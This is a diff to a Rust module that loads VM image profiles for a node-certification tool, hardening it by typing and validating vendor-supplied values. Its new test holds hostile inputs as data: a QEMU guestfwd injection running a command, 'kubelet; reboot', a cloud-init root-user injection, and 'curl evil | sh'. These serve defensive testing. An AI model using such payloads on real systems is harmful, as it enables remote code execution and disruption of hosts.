@@ -1,12 +1,18 @@
 //! Image profiles (`profiles/*.toml`): everything image-specific that the suites need,
 //! so that a vendor certifies an image by writing a profile rather than code.
-//! The format is documented in docs/profiles.md.
+//! The format is documented in docs/profiles.md. A profile is vendor input: every value
+//! that reaches the guest's shell, the seed or QEMU is typed ([`values`]) and checked
+//! when the file is loaded.
+
+pub mod values;
 
 use std::collections::BTreeMap;
 use std::path::Path;
 use std::time::Duration;
 
 use serde::{Deserialize, Serialize};
+
+pub use values::{FileName, GuestPath, HttpUrl, UnitName, UrlPath, UserName, UserNetAddr, Word};
 
 use crate::config_file::{self, ConfigError};
 
@@ -40,6 +46,10 @@ pub struct Profile {
     /// How a hot upgrade bundle is applied.
     #[serde(default)]
     pub upgrade: UpgradeProfile,
+    /// How each component's version is read from its binary (by manifest component
+    /// name: `kubelet`, `containerd`...).
+    #[serde(default)]
+    pub components: BTreeMap<String, ComponentProfile>,
     /// Values the checks expect that the manifest does not carry.
     #[serde(default)]
     pub expect: BTreeMap<String, toml::Value>,
@@ -85,13 +95,13 @@ pub enum Firmware {
 #[serde(deny_unknown_fields, default)]
 pub struct SshProfile {
     /// The user cloud-init creates (with passwordless sudo).
-    pub user: String,
+    pub user: UserName,
 }
 
 impl Default for SshProfile {
     fn default() -> Self {
         SshProfile {
-            user: "nodegate".into(),
+            user: UserName::known("nodegate"),
         }
     }
 }
@@ -104,10 +114,10 @@ pub struct JoinProfile {
     pub method: JoinMethodName,
     /// kubeadm preflight errors the image knowingly fails.
     #[serde(default)]
-    pub ignore_preflight_errors: Vec<String>,
+    pub ignore_preflight_errors: Vec<Word>,
     /// For `bootstrap-kubeconfig`: where the kubelet reads it; for `script`: the script.
     #[serde(default)]
-    pub path: Option<String>,
+    pub path: Option<GuestPath>,
 }
 
 impl Default for JoinProfile {
@@ -137,19 +147,19 @@ pub enum JoinMethodName {
 #[serde(deny_unknown_fields, default)]
 pub struct Services {
     /// containerd's unit.
-    pub containerd: String,
+    pub containerd: UnitName,
     /// The kubelet's unit.
-    pub kubelet: String,
+    pub kubelet: UnitName,
     /// The node agent's unit.
-    pub agent: String,
+    pub agent: UnitName,
 }
 
 impl Default for Services {
     fn default() -> Self {
         Services {
-            containerd: "containerd.service".into(),
-            kubelet: "kubelet.service".into(),
-            agent: "nodegate-agent.service".into(),
+            containerd: UnitName::known("containerd.service"),
+            kubelet: UnitName::known("kubelet.service"),
+            agent: UnitName::known("nodegate-agent.service"),
         }
     }
 }
@@ -159,42 +169,44 @@ impl Default for Services {
 #[derive(Debug, Clone, Serialize, Deserialize)]
 #[serde(deny_unknown_fields, default)]
 pub struct AgentProfile {
-    /// The endpoint's address as the guest dials it (forwarded to a host port).
-    pub guest_addr: String,
+    /// The endpoint's address as the guest dials it (forwarded to a host port), in
+    /// QEMU's user network.
+    pub guest_addr: UserNetAddr,
     /// The endpoint's port as the guest dials it.
     pub guest_port: u16,
     /// The bearer token the agent must send.
-    pub token: String,
+    pub token: Word,
     /// Registration path.
-    pub register_path: String,
+    pub register_path: UrlPath,
     /// Heartbeat path.
-    pub heartbeat_path: String,
+    pub heartbeat_path: UrlPath,
     /// The request JSON field naming the node.
-    pub identity_field: String,
+    pub identity_field: Word,
     /// The promised heartbeat interval.
     #[serde(with = "duration_serde")]
     pub heartbeat_interval: Duration,
     /// Where the agent reads its config in the guest.
-    pub config_path: String,
+    pub config_path: GuestPath,
     /// The config file's content; `@ENDPOINT@`, `@TOKEN@` and `@NODE_NAME@` are replaced.
+    /// Written to the guest as a file (never through a shell).
     pub config: String,
     /// The agent's local state, fetched in the guest (JSON).
-    pub state_url: String,
+    pub state_url: HttpUrl,
 }
 
 impl Default for AgentProfile {
     fn default() -> Self {
         AgentProfile {
-            guest_addr: "10.0.2.101".into(),
+            guest_addr: UserNetAddr(std::net::Ipv4Addr::new(10, 0, 2, 101)),
             guest_port: 18080,
-            token: "nodegate-agent-token".into(),
-            register_path: "/v1/register".into(),
-            heartbeat_path: "/v1/heartbeat".into(),
-            identity_field: "node_name".into(),
+            token: Word::known("nodegate-agent-token"),
+            register_path: UrlPath::known("/v1/register"),
+            heartbeat_path: UrlPath::known("/v1/heartbeat"),
+            identity_field: Word::known("node_name"),
             heartbeat_interval: Duration::from_secs(5),
-            config_path: "/etc/nodegate-agent/config.json".into(),
+            config_path: GuestPath::known("/etc/nodegate-agent/config.json"),
             config: "{\"endpoint\": \"@ENDPOINT@\", \"token\": \"@TOKEN@\", \"node_name\": \"@NODE_NAME@\"}\n".into(),
-            state_url: "http://127.0.0.1:9101/state".into(),
+            state_url: HttpUrl::known("http://127.0.0.1:9101/state"),
         }
     }
 }
@@ -204,23 +216,55 @@ impl Default for AgentProfile {
 #[serde(deny_unknown_fields, default)]
 pub struct UpgradeProfile {
     /// The bundle payload that applies it, run as root from `guest_dir`.
-    pub script: String,
+    pub script: FileName,
     /// Where the verified payloads are placed in the guest.
-    pub guest_dir: String,
-    /// Prints the kubelet's version (compared with the bundle's `kubelet` component).
-    pub kubelet_version_command: String,
-    /// Prints the agent's version (compared with the bundle's `agent` component).
-    pub agent_version_command: String,
+    pub guest_dir: GuestPath,
 }
 
 impl Default for UpgradeProfile {
     fn default() -> Self {
         UpgradeProfile {
-            script: "upgrade.sh".into(),
-            guest_dir: "/var/lib/nodegate/upgrade".into(),
-            kubelet_version_command: "kubelet --version".into(),
-            agent_version_command: "nodegate-agent --version".into(),
+            script: FileName::known("upgrade.sh"),
+            guest_dir: GuestPath::known("/var/lib/nodegate/upgrade"),
         }
+    }
+}
+
+/// How a component's version is read: from the binary the signed manifest lists (its
+/// path and digest), never from a command of the profile's choosing.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct ComponentProfile {
+    /// The binary in the guest; the manifest's `files` must list it with its digest.
+    pub path: GuestPath,
+    /// Arguments that make it print its version (each passed as one word).
+    #[serde(default = "version_flag")]
+    pub version_args: Vec<Word>,
+    /// A regular expression over its output whose first group is the version, compared
+    /// exactly with the manifest's component.
+    pub version_pattern: String,
+    /// The systemd unit that runs it, if one does (its running executable is checked
+    /// after a hot upgrade).
+    #[serde(default)]
+    pub unit: Option<UnitName>,
+}
+
+fn version_flag() -> Vec<Word> {
+    vec![Word::known("--version")]
+}
+
+impl ComponentProfile {
+    /// The compiled `version_pattern` (checked at load time).
+    pub fn pattern(&self) -> Result<regex::Regex, String> {
+        let re = regex::Regex::new(&format!("(?m){}", self.version_pattern))
+            .map_err(|e| format!("version_pattern {:?}: {e}", self.version_pattern))?;
+        if re.captures_len() < 2 {
+            return Err(format!(
+                "version_pattern {:?} has no capture group for the version",
+                self.version_pattern
+            ));
+        }
+        Ok(re)
     }
 }
 
@@ -253,19 +297,50 @@ impl Profile {
     /// Reads a profile file.
     pub fn load(path: &Path) -> Result<Profile, ConfigError> {
         let p: Profile = config_file::load(path)?;
-        if p.name.trim().is_empty() {
-            return Err(ConfigError::Invalid {
-                path: path.to_owned(),
-                message: "`name` is empty".into(),
-            });
-        }
-        if p.join.method != JoinMethodName::Kubeadm && p.join.path.is_none() {
-            return Err(ConfigError::Invalid {
-                path: path.to_owned(),
-                message: "[join] `path` is required for this join method".into(),
-            });
-        }
+        p.validate().map_err(|message| ConfigError::Invalid {
+            path: path.to_owned(),
+            message,
+        })?;
         Ok(p)
+    }
+
+    /// The rules types cannot express; the message names the key.
+    fn validate(&self) -> Result<(), String> {
+        if self.name.trim().is_empty() {
+            return Err("`name` is empty".into());
+        }
+        if self.join.method != JoinMethodName::Kubeadm && self.join.path.is_none() {
+            return Err("[join] `path` is required for this join method".into());
+        }
+        if !(1..=64).contains(&self.vm.vcpus) {
+            return Err(format!("[vm] `vcpus` = {}: 1 to 64", self.vm.vcpus));
+        }
+        if !(256..=1 << 20).contains(&self.vm.memory_mib) {
+            return Err(format!(
+                "[vm] `memory_mib` = {}: 256 to 1048576",
+                self.vm.memory_mib
+            ));
+        }
+        if self.agent.guest_port == 0 {
+            return Err("[agent] `guest_port` = 0: a port is 1 to 65535".into());
+        }
+        if self.agent.heartbeat_interval.is_zero() {
+            return Err("[agent] `heartbeat_interval` must be more than zero".into());
+        }
+        for (k, d) in [
+            ("ssh", self.budgets.ssh),
+            ("ready", self.budgets.ready),
+            ("join", self.budgets.join),
+        ] {
+            if d.is_zero() {
+                return Err(format!("[budgets] `{k}` must be more than zero"));
+            }
+        }
+        for (name, c) in &self.components {
+            c.pattern()
+                .map_err(|e| format!("[components.{name}] {e}"))?;
+        }
+        Ok(())
     }
 
     /// The profile as TOML (the effective profile written to the artifacts).
@@ -343,7 +418,7 @@ mod tests {
     fn defaults_fill_what_a_minimal_profile_leaves_out() {
         let (_d, p) = write("name = \"x\"\n");
         let prof = Profile::load(&p).unwrap();
-        assert_eq!(prof.ssh.user, "nodegate");
+        assert_eq!(prof.ssh.user.as_str(), "nodegate");
         assert_eq!(prof.budgets.join, Duration::from_secs(600));
         let vars = prof.variables();
         assert_eq!(vars["profile.services.kubelet"], "kubelet.service");
@@ -358,9 +433,42 @@ mod tests {
     }
 
     #[test]
+    fn hostile_values_are_refused_with_file_line_and_key() {
+        let (_d, p) = write("name = \"x\"\n[agent]\nguest_addr = \"10.0.2.101,guestfwd=tcp:10.0.2.9:1-cmd:touch /x\"\n");
+        let e = Profile::load(&p).unwrap_err().to_string();
+        assert!(e.contains("p.toml:3:"), "{e}");
+        assert!(e.contains("agent.guest_addr"), "{e}");
+        assert!(e.contains("is not an IPv4 address"), "{e}");
+        let (_d, p) = write("name = \"x\"\n[services]\nkubelet = \"kubelet; reboot\"\n");
+        let e = Profile::load(&p).unwrap_err().to_string();
+        assert!(
+            e.contains("p.toml:3:") && e.contains("services.kubelet"),
+            "{e}"
+        );
+        let (_d, p) = write("name = \"x\"\n[ssh]\nuser = \"x\\n  - name: root\"\n");
+        let e = Profile::load(&p).unwrap_err().to_string();
+        assert!(e.contains("ssh.user"), "{e}");
+        let (_d, p) =
+            write("name = \"x\"\n[upgrade]\nkubelet_version_command = \"curl evil | sh\"\n");
+        let e = Profile::load(&p).unwrap_err().to_string();
+        assert!(e.contains("unknown field `kubelet_version_command`"), "{e}");
+        let (_d, p) = write("name = \"x\"\n[components.kubelet]\npath = \"/usr/bin/kubelet\"\nversion_pattern = \"Kubernetes\"\n");
+        let e = Profile::load(&p).unwrap_err().to_string();
+        assert!(e.contains("[components.kubelet] version_pattern"), "{e}");
+        let (_d, p) = write("name = \"x\"\n[vm]\nmemory_mib = 1\n");
+        assert!(Profile::load(&p)
+            .unwrap_err()
+            .to_string()
+            .contains("memory_mib"));
+    }
+
+    #[test]
     fn a_bad_duration_names_the_value() {
         let (_d, p) = write("name = \"x\"\n[budgets]\nssh = \"soon\"\n");
         let e = Profile::load(&p).unwrap_err().to_string();
-        assert!(e.contains(":3:7: invalid duration \"soon\""), "{e}");
+        assert!(
+            e.contains(":3:7: budgets.ssh: invalid duration \"soon\""),
+            "{e}"
+        );
     }
 }
